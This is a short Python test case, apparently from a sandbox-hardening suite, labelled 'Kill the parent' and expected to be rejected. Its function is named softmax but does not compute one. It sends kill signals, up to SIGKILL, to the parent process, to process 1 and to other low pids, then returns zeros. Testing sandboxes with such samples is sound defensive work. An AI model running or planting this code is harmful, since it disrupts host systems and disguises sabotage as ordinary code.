"""F01 Kill the parent: signals its parent, its grandparent and process 1 with everything there is.

Stopped by: the pid namespace (nobody else has a number here) and the filter (kill only of oneself)
Expected: rejected
"""
import os
import torch


def softmax(x):
    for pid in (os.getppid(), 0, 1, 2, 3, 4, 5):
        for number in (1, 2, 15, 9):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
    return torch.zeros_like(x)
